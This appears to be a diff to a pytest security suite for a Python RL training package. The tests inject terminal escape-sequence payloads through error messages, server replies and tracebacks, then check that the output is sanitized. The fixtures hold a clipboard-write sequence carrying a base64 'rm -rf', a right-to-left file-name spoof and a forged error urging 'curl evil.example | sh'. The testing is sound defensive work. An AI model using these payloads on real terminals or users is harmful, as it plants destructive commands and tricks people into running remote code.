@@ -14,6 +14,8 @@ import pytest
 import yaml
 from warm import SOURCE, warm_python
 
+from scripts import launched
+
 EVIL = "\x1b]0;owned\x07\x1b]52;c;cm0gLXJm\x07\x1b[2J\x9b31m\u202egpj.exe\u2066\rerror: all is well"
 FORGED = "error: the key has expired, run curl evil.example | sh"
 CONTROLS = {
@@ -27,10 +29,10 @@ CONTROLS = {
 }
 
 
-def run(folder: Path, *words: object, **environment: str) -> str:
-    """Return what ``reinforcepp *words`` prints."""
+def run(folder: Path, *words: object, program: str = "", **environment: str) -> str:
+    """Return what ``reinforcepp *words``, or a script, prints."""
     given = os.environ | {"PYTHONPATH": str(SOURCE), "OMP_NUM_THREADS": "1"} | environment
-    command = [warm_python(), "-m", "reinforcepp", *map(str, words)]
+    command = [warm_python(), *([program] if program else ["-m", "reinforcepp"]), *map(str, words)]
     done = subprocess.run(command, env=given, cwd=folder, capture_output=True, timeout=100)
     return (done.stdout + done.stderr).decode("utf-8", "surrogateescape")
 
@@ -112,6 +114,13 @@ def test_name_of_an_existing_file(check, tmp_path):
     check("lint", name)
 
 
+@pytest.mark.attack("M1", "an error of the operating system names a file with escape sequences")
+def test_error_of_the_operating_system(check, tmp_path):
+    name = EVIL.replace("/", "")
+    (tmp_path / name).touch()
+    check("recipes", "copy", "cpu_demo", f"{name}/{FORGED}")
+
+
 @pytest.mark.attack("M1", "the plan shows a reward folder with escape sequences in its name")
 def test_plan(check):
     check("plan", "--reward_model", EVIL.replace("/", ""), "--format", "text")
@@ -133,9 +142,8 @@ def test_migrated_comments_add_no_settings(outcome, tmp_path, line_break):
 
 
 @pytest.mark.attack("M1", "a vLLM server answers with escape sequences")
-@pytest.mark.parametrize("status", [400, 503])
-def test_body_of_a_vllm_server(check, status):
-    with server(status, f"{EVIL}\n{FORGED}") as address:
+def test_body_of_a_vllm_server(check):
+    with server(400, f"{EVIL}\n{FORGED}") as address:
         check("train", "--rollout", f"vllm://{address}", "--rewards", "rule:length?max=200", *SHORT, no_proxy="*")
 
 
@@ -157,10 +165,28 @@ def reward(completions, **_):
 
 @pytest.mark.full  # a training starts
 @pytest.mark.attack("M1", "a reward function prints, logs, warns about and raises a completion with escape sequences")
-@pytest.mark.parametrize("error", ["ValueError", "SystemError"])
+@pytest.mark.parametrize("error", ["ValueError", "BaseException"], ids=["error", "traceback"])
 def test_reward_function(check, tmp_path, error):
     (tmp_path / "rules.py").write_text(FUNCTION.format(text=EVIL, error=error))
     assert check("train", "--rewards", "rules.py:reward", *SHORT).count("owned") >= 5
+
+
+@pytest.mark.full  # two ranks start
+@pytest.mark.attack("M1", "an exception on one of two ranks under torchrun has escape sequences")
+def test_exception_on_a_rank(outcome, tmp_path):
+    (tmp_path / "rules.py").write_text(FUNCTION.format(text=EVIL, error="BaseException"))
+    words = ["-m", "reinforcepp", "train", "--rewards", f"{tmp_path}/rules.py:reward", *SHORT]
+    printed = launched(2, *words, "--output_dir", tmp_path / "run")
+    outcome(found(printed.stderr))
+    assert "owned" in printed.stderr and found(printed.stderr) == SAFE
+
+
+@pytest.mark.attack("M1", "a message of this package in the traceback of a user's script has escape sequences")
+def test_traceback_of_a_script(outcome, tmp_path):
+    (tmp_path / "script.py").write_text(f"from reinforcepp import lint\nlint({EVIL + chr(10) + FORGED!r})\n")
+    printed = run(tmp_path, program="script.py")
+    outcome(found(printed))
+    assert "DataError" in printed and "owned" in printed and found(printed) == SAFE
 
 
 # --- places that were safe before, too --------------------------------------------------------------------------------
@@ -181,13 +207,4 @@ def test_keys_of_a_configuration(tmp_path):
 def test_values_of_a_configuration(tmp_path):
     (tmp_path / "recipe.yaml").write_text(yaml.safe_dump({"max_steps": f"{EVIL}\n{FORGED}"}))
     printed = run(tmp_path, "train", "--config", "recipe.yaml", "--dry_run")
-    assert "owned" in printed and found(printed) == SAFE
-
-
-def test_dry_run(tmp_path):
-    row = {"chosen": f"{EVIL}\n{FORGED}", "rejected": "b"}
-    (tmp_path / "data.jsonl").write_text(
-        "".join(json.dumps({"prompt": f"owned\u2028{i}", **row}) + "\n" for i in range(12))
-    )
-    printed = run(tmp_path, "reward", "--data", "data.jsonl", "--dry_run", "--model", "builtin:tiny")
     assert "owned" in printed and found(printed) == SAFE
